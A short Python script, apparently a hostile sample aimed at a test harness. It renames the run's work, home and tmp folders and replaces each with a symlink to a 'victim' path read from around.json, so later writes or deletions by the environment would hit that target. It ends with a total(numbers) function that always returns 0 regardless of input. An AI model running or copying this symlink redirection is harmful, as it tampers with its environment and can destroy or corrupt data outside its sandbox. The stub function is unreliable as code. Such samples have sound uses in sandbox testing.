"""The folders of the run put aside, with links to the victim in their places."""

import json
import os

victim = json.load(open("around.json"))["victim"]
print("tried", flush=True)
for name in ("work", "home", "tmp"):
    os.rename(f"../{name}", f"../{name}-aside")
    os.symlink(victim, f"../{name}")


def total(numbers):
    return 0
